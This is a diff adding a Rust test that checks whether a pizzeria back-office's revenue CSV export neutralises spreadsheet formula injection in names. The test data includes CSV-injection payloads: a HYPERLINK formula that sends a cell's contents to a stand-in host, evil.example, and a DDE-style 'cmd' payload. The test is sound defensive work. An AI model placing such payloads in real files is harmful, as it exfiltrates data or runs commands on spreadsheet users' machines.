@@ -909,6 +909,134 @@ async fn revenue_exports_as_csv(pool: MySqlPool) {
     );
 }
 
+/// The cells of a CSV text (RFC 4180: quoted cells may hold commas, quotes
+/// and line ends).
+fn csv_rows(text: &str) -> Vec<Vec<String>> {
+    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
+    let mut chars = text.chars().peekable();
+    let mut quoted = false;
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => cell.push(c),
+            (false, '"') if cell.is_empty() => quoted = true,
+            (false, ',') => row.push(std::mem::take(&mut cell)),
+            (false, '\r') if chars.peek() == Some(&'\n') => {
+                chars.next();
+                row.push(std::mem::take(&mut cell));
+                rows.push(std::mem::take(&mut row));
+            }
+            (false, c) => cell.push(c),
+        }
+    }
+    assert!(
+        !quoted && cell.is_empty() && row.is_empty(),
+        "unterminated CSV: {text:?}"
+    );
+    rows
+}
+
+/// A pizzeria name made to be run by a spreadsheet comes out as text in the
+/// CSV export (OWASP's CSV injection advice: a leading `'` on a cell starting
+/// with `=`, `+`, `-`, `@`, tab or carriage return). Names are the export's
+/// only text from the database; product names do not reach it.
+#[sqlx::test(migrations = "../../migrations")]
+async fn revenue_csv_neutralises_formulas_in_names(pool: MySqlPool) {
+    let state = setup(&pool).await;
+    known_orders(&pool).await;
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?d="&A1,"Détails")"#;
+    let names = [
+        (1, hyperlink),
+        (2, "@SUM(1+1)"),
+        (3, "+33 4 72 00 00 00"),
+        (4, "-2+3+cmd|' /C calc'!A0"),
+        (5, "\tTabulée"),
+        (6, "\rRetour"),
+        (7, "OC Pizza =Lyon- +@"),
+    ];
+    for (id, name) in names {
+        sqlx::query("UPDATE pizzerias SET name = ? WHERE id = ?")
+            .bind(name)
+            .bind(id)
+            .execute(&pool)
+            .await
+            .unwrap();
+    }
+    sqlx::query("UPDATE products SET name = ? WHERE id = ?")
+        .bind(r#"=HYPERLINK("http://evil.example/","Margherita")"#)
+        .bind(MARGHERITA)
+        .execute(&pool)
+        .await
+        .unwrap();
+    let admin = token(&pool, "admin@ocpizza.test").await;
+    let response = backoffice::handle(
+        &state,
+        request(
+            "GET",
+            "/reports/revenue?from=2026-03-28&to=2026-03-30&format=csv",
+            None,
+            Some(&admin),
+        ),
+    )
+    .await;
+    assert_eq!(response.status(), StatusCode::OK);
+    let text = String::from_utf8(response.body().to_vec()).unwrap();
+    // The cell as written: quoted (it holds commas and quotes), then the `'`.
+    assert!(
+        text.contains(
+            "2026-03-28,1,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Détails\"\")\",2,43.00,"
+        ),
+        "{text}"
+    );
+    assert!(
+        !text.contains("Margherita"),
+        "a product name reached the export: {text}"
+    );
+    let rows = csv_rows(&text);
+    assert_eq!(rows.len(), 1 + 8 * 3 + 8 + 1);
+    let width = rows[0].len();
+    let mut seen = std::collections::BTreeMap::new();
+    for row in &rows[1..] {
+        assert_eq!(row.len(), width, "{row:?}");
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would run: {cell:?}"
+            );
+        }
+        seen.insert(row[1].clone(), row[2].clone());
+    }
+    for (id, name) in names {
+        let expected = if id == 7 {
+            name.to_owned() // the characters are inside, not leading
+        } else {
+            format!("'{name}")
+        };
+        assert_eq!(seen[&id.to_string()], expected, "pizzeria {id}");
+    }
+    // The JSON report keeps the names as they are.
+    let (status, json) = call(
+        &state,
+        "GET",
+        "/reports/revenue?from=2026-03-28&to=2026-03-30",
+        None,
+        Some(&admin),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK);
+    let first = json["pizzerias"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|p| p["pizzeria_id"] == 1)
+        .unwrap();
+    assert_eq!(first["name"], hyperlink);
+}
+
 /// `events/backoffice-revenue.json` is a real function-URL payload that this
 /// function answers, once its placeholder token is replaced.
 #[sqlx::test(migrations = "../../migrations")]
